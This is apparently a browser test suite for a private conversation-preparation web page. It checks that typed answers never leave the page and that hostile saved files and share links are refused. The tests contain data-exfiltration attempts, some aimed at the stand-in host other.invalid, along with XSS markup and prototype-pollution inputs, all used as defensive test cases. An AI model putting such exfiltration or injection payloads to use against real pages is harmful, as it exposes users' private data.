// What a reader writes stays with them: nothing is sent, nothing is kept unasked, and what others hand over (files,
// links) cannot do harm.

import assert from "node:assert/strict";
import test from "node:test";
import { load, open, questions, said, saved, served } from "./prepare.mjs";
import { browser, readFileSync, temporary } from "./site.mjs";

test("not one byte of an answer leaves the page, whatever a script tries", async (t) => {
  const { url, requests } = await served(t);
  const context = await (await browser(t)).newContext();
  const page = await context.newPage();
  page.on("dialog", (dialog) => dialog.accept());
  await open(page, url, "en", "#form=dialogue&for=role:employee,staff:academic");
  const fields = page.locator("[data-sheet] :is(textarea, input[type=text])");
  for (let at = 0; at < (await fields.count()); at += 1) await fields.nth(at).fill(`SECRETWORDS${at}`);
  await page.locator('[data-act="word"]').click();
  await page.locator('[data-act="save"]').click();
  await page.locator("[data-share] > summary").click();
  await page.locator('[data-act="copy"]').click();
  const titles = await page.evaluate(() => [document.title, location.href, JSON.stringify(history.state), document.querySelector("[data-link]").value, document.querySelector("[data-same]").outerHTML].join());
  assert.ok(!titles.includes("SECRETWORDS"));
  const before = requests.length;
  // Everything that could carry a word away. The policy stops all but a navigation, which is the reader's own doing.
  await page.evaluate(async () => {
    const secret = document.querySelector("[data-sheet] textarea").value;
    const attempts = [
      () => fetch(`/fetch?${secret}`),
      () => navigator.sendBeacon(`/beacon?${secret}`, secret),
      () => new XMLHttpRequest().open("GET", `/xhr?${secret}`) || 0,
      () => new WebSocket(`ws://${location.host}/socket?${secret}`),
      () => new EventSource(`/events?${secret}`),
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // Refused.
      }
    }
    const form = document.createElement("form");
    form.action = `/form?${secret}`;
    form.method = "post";
    document.body.append(form);
    form.submit();
    for (const rel of ["prefetch", "preload", "dns-prefetch", "preconnect", "modulepreload"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, as: "fetch", href: `http://other.invalid/${rel}?${secret}` });
      document.head.append(link);
    }
    const picture = document.createElement("img");
    picture.src = `http://other.invalid/picture?${secret}`;
    document.body.append(picture);
    const frame = document.createElement("iframe");
    frame.src = `/frame?${secret}`;
    document.body.append(frame);
    await new Promise((done) => setTimeout(done, 500));
  });
  const sent = requests.slice(before).filter((line) => line.includes("SECRETWORDS"));
  assert.deepEqual(sent, []);
  // The reader's own ways: another page, back, a reload.
  await page.goto(`${url}en/privacy/`);
  await page.goBack();
  await page.reload();
  assert.ok(!requests.some((line) => line.includes("SECRETWORDS")), "an answer was sent");
  assert.ok(!(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie }))).includes("SECRETWORDS"));
  assert.deepEqual(await page.evaluate(async () => [(await indexedDB.databases()).length, (await caches?.keys?.())?.length ?? 0]), [0, 0]);
});

test("hostile and broken files are refused or repaired, and nothing on the page is lost", async (t) => {
  const { url } = await served(t);
  const folder = temporary(t);
  const page = await (await browser(t)).newPage();
  const errors = [];
  page.on("pageerror", (error) => errors.push(String(error)));
  await open(page, url, "en", "#form=one-to-one&for=role:employee,staff:academic");
  await page.locator("[data-sheet] li textarea").first().fill("MINE");
  const good = JSON.parse(readFileSync(await saved(page, "save", folder), "utf8"));
  const mine = async () => [(await questions(page)).length, await page.locator("[data-sheet] li textarea").first().inputValue()];
  const before = await mine();
  const refused = {
    "": /not a saved sheet/,
    "{": /not a saved sheet/,
    "[]": /not a saved sheet/,
    "null": /not a saved sheet/,
    '{"format":"samtale-preparation"}': /not a saved sheet/,
    '{"format":"samtale-preparation","version":-1,"questions":[]}': /not a saved sheet/,
    '{"format":"samtale-preparation","version":"1","questions":[]}': /not a saved sheet/,
    '{"__proto__":{"format":"samtale-preparation","version":1,"questions":[]}}': /not a saved sheet/,
    [JSON.stringify({ ...good, version: 2 })]: /newer version/,
    ["[".repeat(200_000)]: /not a saved sheet/,
    ["x".repeat(9_000_000)]: /too large/,
  };
  for (const [text, words] of Object.entries(refused)) {
    await load(page, text);
    assert.match(await said(page), words, text.slice(0, 60));
    assert.deepEqual(await mine(), before, text.slice(0, 60));
  }
  // What can be mended is mended, and said.
  const markup = '<img src=x onerror="window.hit=1"><script>window.hit=1</script>';
  const mended = {
    ...good,
    form: "gone",
    language: markup,
    beside: "../../x",
    readers: { role: "constructor", staff: "academic", __proto__: { role: "manager" }, toString: "x" },
    questions: [
      { id: "task-priorities", text: "x", answer: "KEPT" },
      { id: "task-priorities", answer: "TWICE" },
      { id: "no-such-question", text: `Old question ${markup}`, answer: `OLD ${markup}` },
      { id: "constructor", text: "Odd name", answer: { a: 1 } },
      { id: "__proto__", text: "Odder name", answer: ["b"] },
      { own: markup, answer: markup },
      { id: "rating-motivation", answer: 99 },
      { id: "amount-of-work", answer: "not a step" },
      { id: ["x"] }, null, 7, "x", [],
    ],
    answers: { "h-name": { a: 1 }, "h-date": "1 May", "p-plan": [["what", "who"], "x", { length: 9 }], __proto__: { "h-name": "x" }, constructor: "x" },
  };
  await load(page, JSON.stringify(mended).replace('"toString"', '"__proto__":{"role":"manager"},"toString"'));
  assert.match(await said(page), /^The saved sheet is open\. 3 questions are no longer in use.* entries of the file do not fit/);
  const list = await questions(page);
  assert.deepEqual(list.map(({ id, number }) => [id, number]), [["task-priorities", "1"], [undefined, "A"], [undefined, "B"], [undefined, "C"], [undefined, "D"], ["rating-motivation", "2"], ["amount-of-work", "3"]]);
  assert.equal(await page.locator("[data-sheet] li textarea").nth(0).inputValue(), "KEPT");
  assert.equal(await page.locator("[data-sheet] li textarea").nth(1).inputValue(), `OLD ${markup}`);
  assert.equal(await page.locator(".head-fields input").nth(1).inputValue(), "1 May");
  assert.equal(await page.locator("[data-sheet] .grid tbody tr").count(), 3);
  assert.equal(await page.evaluate(() => window.hit ?? [Object.prototype.role, {}.format].filter(Boolean).length), 0);
  assert.equal(await page.locator("[data-sheet] :is(img, script)").count(), 0);
  // Undo brings back what was there.
  await page.locator('[data-act="undo"]').click();
  assert.deepEqual(await mine(), before);
  assert.deepEqual(errors, []);
});

test("hostile and broken links change nothing; a good one adds to what is there", async (t) => {
  const { url } = await served(t);
  const page = await (await browser(t)).newPage();
  const errors = [];
  page.on("pageerror", (error) => errors.push(String(error)));
  page.on("dialog", (dialog) => dialog.accept());
  await open(page, url, "en");
  await page.locator('[data-act="own"]').click();
  await page.locator(".own").fill("Mine");
  await page.locator("[data-sheet] li textarea").fill("WORDS");
  const hash = async (fragment) => {
    await page.evaluate((next) => new Promise((done) => {
      addEventListener("hashchange", () => done(), { once: true });
      location.hash = next;
    }), fragment);
  };
  for (const [fragment, words] of [
    ["#q=<script>,x&v=1", /could not be read/], ["#q=a,b&v=9", /newer version/], ["#q=a&v=x", /could not be read/],
    ["#q=a&v=1&edition=%E0%A4%A", /could not be read/], [`#q=${"a".repeat(101)}`, /could not be read/],
  ]) {
    await hash(fragment);
    assert.match(await said(page), words, fragment);
    assert.ok(await page.locator("[data-shared]").isHidden(), fragment);
  }
  await hash("#q=__proto__,constructor,task-priorities,conversation-rating,gone&v=1&for=role:__proto__,constructor:x&form=__proto__&edition=1");
  assert.match(await page.locator("[data-shared-count]").textContent(), /^1 question\..* 4 questions of the link are no longer in use/);
  await page.locator('[data-act="shared-no"]').click();
  assert.deepEqual((await questions(page)).map(({ number }) => number), ["A"]);
  await hash("#q=task-priorities,clear-goals&v=1&form=dialogue&edition=2019-1&lang=nb");
  assert.match(await page.locator("[data-shared-count]").textContent(), /version 2019-1, now/);
  await page.locator("[data-shared-roles] button").first().click();
  assert.deepEqual((await questions(page)).map(({ number }) => number), ["1", "2", "A"]);
  assert.equal(await page.locator("[data-sheet] li textarea").last().inputValue(), "WORDS");
  assert.deepEqual(errors, []);
});
